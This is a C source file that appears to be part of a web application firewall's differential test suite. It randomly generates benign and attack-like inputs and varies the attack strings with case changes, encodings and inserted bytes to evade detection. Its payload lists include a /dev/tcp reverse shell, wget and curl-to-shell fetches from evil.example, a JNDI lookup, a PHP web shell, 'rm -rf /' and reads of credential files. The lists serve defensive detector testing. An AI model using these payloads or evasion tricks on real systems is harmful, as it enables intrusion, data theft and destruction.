/* SPDX-License-Identifier: Apache-2.0 */
#include "tests/differential/waf_words.h"

#include <ctype.h>

#include "tests/differential/waf_detect_values.h"

#define PICK(random, list) (list)[random_below(random, sizeof(list) / sizeof *(list))]

static const char *const cross_site[] = {
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)", "<svg/onload=prompt(1)>", "<iframe src=//evil.example>",
    "&#x3c;script&#x3e;", "x=url(javascript:a)", "<style>a:b(c</style>", "<x:vmlframe src=a>", "vbscript:msgbox", "<embed src=a>", "<?import implementation=a>",
    "<meta http-equiv=refresh>", "<meta charset=utf-7>", "<link href=a>", "<base href=//a>", "<applet>", "<object data=a>", "\xbcscript\xbe", "%252bADw-script%252bAD4-",
    "(!![]+[])[+[]]", "window['alert'](1)", "\"in valueOf=", "'(a.b=", "%uff1cscript%uff1e", "document.cookie; expires=1", "<a href=\"jav&#x09;ascript:alert(1)\">",
    "<input autofocus onfocus=alert(1)>", "<body onload=alert(1)>", "<math><a xlink:href=javascript:alert(1)>", "<!--[if IE]><script>", "<!ENTITY x SYSTEM 'a'>", "@import 'a'",
    "expression(alert(1))", "data:text/html;base64,PHNjcmlwdD4=", "<details open ontoggle=alert(1)>", "\\u003cscript\\u003e", "{{constructor.constructor('alert(1)')()}}",
    "+ADw-script+AD4-", "<form action=javascript:a>", "<isindex type=image src=1 onerror=a>", "' onmouseover=alert(1) x='", "-moz-binding: url(a)", "this['document']['cookie']",
    "self[`alert`](1)", "Function(\"ale\"+\"rt(1)\")()", "<template><s>", "document.write('a')", "alert(String.fromCharCode(88))", "%3cscript%3e",
    ".parentnode", "\\x3cscript", "<audio src onloadstart=alert(1)>", "onunload =a", "<bgsound src=a>", "<frameset onload=a>", "<marquee onstart=a>", "window.location='a'",
};
static const char *const databases[] = {
    "' or '1'='1", "1 union select user,password from mysql.user", "1; drop table users--", "' and sleep(5)#", "1 and 1=cast((select version()) as int)",
    "';exec xp_cmdshell('dir')--", "x' and information_schema.tables", "select if(1,2,3)", "x' having 1<2", "if(1=1)", "' waitfor delay '0:0:9'", "match(a) against(b)",
    "; shutdown --", "; declare @x", "; insert into a", "/*!50000 select*/", "x' is 1 or 'a'", "execute a.b", "1 /* a */ -- b", "0xdeadbeef", "-2147483649", "\"1\";2\"3\"",
    "1' order by 3--", "' group by a having 1=1", "admin'--", "1 procedure analyse(extractvalue(1,2))", "load_file('/etc/passwd')", "into outfile '/tmp/a'", "benchmark(9,md5(1))",
    "pg_sleep(5)", "utl_http.request('http://a')", "'||'a'||'", "a' like 'a%", "1 rlike sleep(5)", "'; create function a returns string soname 'b'", "create or replace procedure a",
    "select pg_read_file('a')", "' union all select null,null,null", "char(97)+char(98)", "@@version", "user_password", "' <=> '1", "!!1 div 2", "1 between 2 and 3 or 'a' between 'b' and 'c'",
    "' regexp '^a", "coalesce(a,b)", "' in (1,2)--", "nvarchar(4000)", "sys.user_objects", "msysaces", "chr(65)||chr(66)", "~1", "''='", "a' xor 'b", "iif(1,2,3)", "1'1",
    "alter table a", "select * from users where id=1 limit 1", "delete from a where b", "merge into a using(b", "`a`=`b`", "\"; select 1", "having a > 1 order by 2",
    "autonomous_transaction", "open database a", "dbms_java", "' rlike (select 1", "unhex(61)", "{\"$gt\":1}' or", "))))", "a;;b--c##d",
};
static const char *const files[] = {
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "C:\\windows\\win.ini", "/etc/passwd%00.jpg", "http://127.0.0.1/shell.txt?", "file:///etc/passwd", "/.git/config",
    "wp-config.php", "%c0%ae%c0%ae/", "ftp://user:pass@evil.example/a", "//evil.example/a?", "include(a=http://b.example/c", "....//....//boot.ini", "/proc/self/environ",
    "\\\\server\\share", "http://10.0.0.1:8080/a.php?", "/var/log/apache2/access.log", ".ssh/id_rsa", ".htpasswd", "/web.config", "..\\..\\..\\", "%2e%2e%5c",
    "https://evil.example/x.txt?", "gopher://a/", "..;/manager/html", "/.env", "/.svn/entries", "%252e%252e%252f", "include(http://a/b", "\xe0\x80\xae/", "0x2e0x2e/",
};
static const char *const shell[] = {
    ";cat /etc/passwd", "| id", "$(wget http://evil.example/x)", "`uname -a`", "&& ping -c 1 127.0.0.1", "() { :;}; /bin/bash -c 'id'", "nc -e /bin/sh", "; aptitude a",
    "/antidisestablishmentarianism", "a\\c", "a\\\\c", "; curl http://a|sh", "/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "$(echo${IFS}a)", "/?\?\?/?\?t /?\?\?/p?\?s?\?",
    "|/usr/bin/id", "; chmod 777 a", "<(cat a)", "c''at /etc/passwd", "`id`", "; rm -rf /", "& ifconfig", "| tee a", "; ls -la", "\n/bin/ls", "$((1+1))", "{cat,/etc/passwd}",
    "/bin/ca? /et?/p", "; python -c 'import os'", "; perl -e 'a'", "/etc/hosts /b in", "a=b;$a", "/?in/cat /etc/a", "echo a > /dev/tcp/a", ";nslookup a", "/b/c d",
    "time id", ";env a=b cat", "/usr/bin/env x", "/bin[/]sh a b",
};
static const char *const windows[] = {
    "cmd.exe /c dir", "powershell -enc AAAA", "; systeminfo", ";cmd.exe", "powershell.exe Add-Content", "if exist a", "for %i in (*) do a", "| dir c:", "& net user a b /add",
    "; tasklist", "%COMSPEC%", "wmic process list", "certutil -urlcache -f http://a", "; type c:\\boot.ini", "invoke-expression a", "start-process a", "& whoami.exe",
    "; reg query a", "| findstr a", "get-childitem", "set-content a", "for /f %x in (a) do b", "if /i \"a\"==\"b\" c", ";rundll32 a", "bitsadmin /transfer a",
};
static const char *const php[] = {
    "php://input", "data://text/plain;base64,SSBsb3ZlIFBIUAo=", "<?php system($_GET['c']); ?>", "O:8:\"stdClass\":0:{}", "eval(base64_decode(", "phpinfo()", "zip://a.zip",
    "$a(1)", "HTTP_USER_AGENT", "allow_url_include=on", "addslashes(1)", "<?= `id` ?>", "$GLOBALS['a']", "${@eval(1)}", "phar://a.phar", "expect://id", "glob://a",
    "call_user_func('a','b')", "assert($_POST[1])", "$_SERVER['a']", "file_get_contents('a')", "fopen('a','r')", "shell_exec('a')", "array_map('a',b)", "(sy.(st).em)(whoami)",
    "'system'('id')", "a:1:{s:1:\"a\";O:1:\"B\":0:{}}", "auto_prepend_file=a", "disable_functions=", "$_FILES[a]", "preg_replace('/a/e','b','c')", "create_function('a','b')",
    "[php]a[/php]", "ogg://a", "ssh2.shell://a", "proc_open(a", "readfile('a')", "base64_decode('a')", "session_start()", "opcache.enable=1", "bzopen('a'", "$$a", "$a[1](2)",
    "PD9waHA=", "is_numeric(1)", "strlen(1)", "putenv('a')", "highlight_file(a", "gzinflate(a", "$_REQUEST{a}", "passthru (1)", "phpversion()", "open_basedir", "move_uploaded_file(a",
};
static const char *const script[] = {
    "${7*7}", "#{7*7}", "{{7*7}}", "(cn=*)(uid=*)", "*)(|(objectclass=*", "$where: 1", "[$ne]=1", "require('child_process')", "process.env.a", "global.process.mainModule",
    "_$$ND_FUNC$$_function(){}", "{\"$gt\":\"\"}", "this.constructor.constructor('a')()", "__proto__[a]=b", "constructor.prototype.a", "console.log(1)", "eval(String.fromCharCode(1))",
    "new Function('a')", "child_process.exec('a')", "<%= 7*7 %>", "{% debug %}", "[$regex]=.*", "db.users.find()", "$nin", "*(uid=*))(|(uid=*", "(&(a=b)(!(c=d)))", "fs.readFile(a",
    "%24%7b7*7%7d", "setTimeout(a,1)", "while(1)", "nodejs:a", "execSync('a')", "this.process", "a)(b=c", "(|(a=*)",
};
static const char *const java[] = {
    "${jndi:ldap://evil.example/a}", "java.lang.Runtime", "ognl.OgnlContext", "java.lang.ProcessBuilder xmldecoder", "java.io filewriter", "%ac%ed%00%05", "rO0ABQ==", "cnVudGltZQ==",
    "java.lang.Runtime getRuntime().exec(", "${${lower:j}ndi:rmi://a}", "org.apache.struts2", "class.module.classLoader", "%{(#_='multipart/form-data')}", "javax.script.ScriptEngine",
    "freemarker.template.utility.Execute", "T(java.lang.Runtime)", "java.beans.XMLDecoder", "unmarshaller java.lang.Runtime", "com.opensymphony.xwork2", "\xac\xed\x00\x05", "KztAAU",
    "Cs7QAF", "org.apache.commons.collections", "bsh.Interpreter", "java.io.ObjectInputStream", "${env:A}", "java.nio.file.Files", "$%7bjndi:dns://a%7d", "clonetransformer java.a",
    "H4sIAAAAAAAA", "runtime processbuilder", "java.net.URLClassLoader", "javax.naming",
};
static const char *const protocol[] = {
    "x\r\nSet-Cookie: a=b", "\r\n\r\nHTTP/1.1 200 OK", "\nGET / HTTP/1.0\r\n", "%u0027", "\xff\xfe", "%00", "%zz", "!@#$%^&*()-+={}[]|:;<>?,./~", ".cookie;expires=a", "a\rb", "\x01\x02",
    "\x7f", "%0d%0aLocation: a", "<meta http-equiv=\"Set-Cookie\">", "POST /a HTTP/1.1\nHost: a", "HTTP/0.9 a\n", "\xc0\xaf", "%uFF0F", "\xed\xa0\x80", "Set-Cookie: a; domain=b",
    "document.cookie='a;domain=b'", "%%%", "%c1%1c", "\xf8\x88\x80\x80\x80", "location: http://a\r\n", "a\x0b" "b", "Content-Type: text/html\r\n\r\n<html>", "\r\nrefresh: a\r\n",
    "%0acontent-length: 3%0a", "a\x1f" "b", "{\"a\":", "://a?\"", "%25%32%35", "Transfer-Encoding: chunked\r\n",
};

static const struct {
    const char *const *items;
    size_t count;
} families[WORD_FAMILY_COUNT] = {
#define LIST(name) {name, sizeof(name) / sizeof *(name)}
    [WORDS_XSS] = LIST(cross_site), [WORDS_SQL] = LIST(databases), [WORDS_FILES] = LIST(files), [WORDS_SHELL] = LIST(shell), [WORDS_WINDOWS] = LIST(windows),
    [WORDS_PHP] = LIST(php), [WORDS_SCRIPT] = LIST(script), [WORDS_JAVA] = LIST(java), [WORDS_PROTOCOL] = LIST(protocol),
};

size_t words_count(enum word_family family)
{
    return families[family].count;
}

const char *words_at(enum word_family family, size_t index)
{
    return families[family].items[index];
}

/* ---- what is none */

static const char *const plain[] = {
    "hello", "world", "1", "2026-11-26", "O'Brien", "anna@example.org", "a b c", "select a color", "Zürich", "100%", "on", "true", "https://example.org/a?b=c", "",
    "the quick brown fox", "x=y", "a&b", "3.14", "-1", "[1,2]", "{}", "c++", "rock & roll", "\"quoted\"", "semi;colon", "tab\there", "+49 30 1234567", "12:34:56", "#fff", "v2.0.1-rc1",
    "東京都", "Привет, мир", "مرحبا", "naïve café", "😀", "00000000-0000-4000-8000-000000000000", "5f4dcc3b5aa765d61d8327deb882cf99", "Mr. & Mrs. Smith", "What's up?", "50% off (today!)",
    "line one\r\nline two\r\n", "C:\\Users\\anna\\a.txt", "/home/anna/notes.md", "SELECT your plan", "drop us a line; or call", "if (a < b) return;", "a <b>bold</b> word", "1,234.50 €",
    "utm_source=news&utm_medium=mail", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "data:image/png;base64,iVBORw0KGgo=", "https://www.example.org/shop/item-17?ref=a%20b#top", "null", "undefined",
    "Thu, 26 Nov 2026 10:00:00 GMT", "en-US,en;q=0.5", "a/b/c.tar.gz", "x^2 + y^2 = z^2", "price>10", "...", "--", "(555) 010-9999", "Straße 7, 10115 Berlin", "1 union street",
};

static const struct value_class *class_of(struct random *random, enum value_kind kind)
{
    const struct value_class *c;
    do {
        c = &value_classes[random_below(random, (uint32_t)value_class_count)];
    } while (c->kind != kind);
    return c;
}

static void generate(struct random *random, enum value_kind kind, struct text *out)
{
    char value[VALUE_LONGEST + 1];
    text_append(out, value, value_generate(class_of(random, kind), random, value));
}

void word_benign(struct random *random, struct text *out)
{
    if (random_below(random, 3))
        text_puts(out, PICK(random, plain));
    else
        generate(random, VALUE_BENIGN, out);
}

void word_attack(struct random *random, struct text *out)
{
    enum word_family family = (enum word_family)random_below(random, WORD_FAMILY_COUNT);
    if ((family == WORDS_XSS || family == WORDS_SQL) && random_below(random, 2))
        generate(random, family == WORDS_XSS ? VALUE_XSS : VALUE_SQLI, out);
    else
        text_puts(out, families[family].items[random_below(random, (uint32_t)families[family].count)]);
}

/* ---- disguises and damage */

static void change_case(struct random *random, struct text *t)
{
    for (size_t i = 0; i < t->len; i++)
        if (random_below(random, 2))
            t->at[i] = (char)(isupper((unsigned char)t->at[i]) ? tolower((unsigned char)t->at[i]) : toupper((unsigned char)t->at[i]));
}

static void replace_spaces(struct random *random, const struct text *t, struct text *out)
{
    static const char *const spaces[] = {"/**/", "\t", "\n", "  ", "+", "%20", "\xa0", "/*a*/", "\x0b", "${IFS}"};
    const char *by = PICK(random, spaces);
    for (size_t i = 0; i < t->len; i++) {
        if (t->at[i] == ' ')
            text_puts(out, by);
        else
            text_append(out, t->at + i, 1);
    }
}

/* Some characters as another syntax writes them. */
static void encode_some(struct random *random, const struct text *t, struct text *out)
{
    static const struct {
        const char *before, *after;
        int digits; /* hexadecimal ones, with zeros in front; 0: decimal */
    } forms[] = {{"%", "", 2}, {"%25", "", 2}, {"&#", ";", 0}, {"&#x", ";", 1}, {"\\x", "", 2}, {"\\u", "", 4}, {"%u", "", 4}, {"0x", "", 2}};
    uint32_t form = random_below(random, sizeof forms / sizeof *forms);
    for (size_t i = 0; i < t->len; i++) {
        unsigned char c = (unsigned char)t->at[i];
        bool other = isalnum(c) ? random_below(random, 6) == 0 : random_below(random, 2);
        if (!other)
            text_append(out, &c, 1);
        else if (forms[form].digits)
            text_printf(out, "%s%0*x%s", forms[form].before, forms[form].digits, c, forms[form].after);
        else
            text_printf(out, "%s%d%s", forms[form].before, c, forms[form].after);
    }
}

static void insert_byte(struct random *random, const struct text *t, struct text *out)
{
    static const char bytes[] = "\0\x01\x7f\x80\xff\r\n\t'\"<>\\%;&";
    size_t at = random_below(random, (uint32_t)t->len + 1);
    text_append(out, t->at ? t->at : "", at);
    text_append(out, bytes + random_below(random, sizeof bytes - 1), 1);
    text_append(out, t->at ? t->at + at : "", t->len - at);
}

static void disguise(struct random *random, struct text *word, struct text *out)
{
    switch (random_below(random, 6)) {
    case 0:
        change_case(random, word);
        text_append(out, text_cstr(word), word->len);
        break;
    case 1:
        replace_spaces(random, word, out);
        break;
    case 2:
        encode_some(random, word, out);
        break;
    case 3:
        insert_byte(random, word, out);
        break;
    case 4: /* within what is none */
        word_benign(random, out);
        text_puts(out, " ");
        text_append(out, text_cstr(word), word->len);
        text_puts(out, " ");
        word_benign(random, out);
        break;
    default: /* cut short */
        text_append(out, text_cstr(word), random_below(random, (uint32_t)word->len + 1));
    }
}

static void repeat(struct random *random, struct text *out)
{
    struct text word = text_new(1 << 16);
    word_benign(random, &word);
    for (uint32_t n = random_below(random, 60); n; n--)
        text_append(out, text_cstr(&word), word.len);
    text_free(&word);
}

void word_any(struct random *random, struct text *out)
{
    struct text word = text_new(1 << 16);
    uint32_t kind = random_below(random, 60);
    if (kind < 38) {
        word_benign(random, out);
    } else if (kind < 50) {
        word_attack(random, out);
    } else if (kind < 59) {
        word_attack(random, &word);
        disguise(random, &word, out);
    } else {
        repeat(random, out);
    }
    text_free(&word);
}
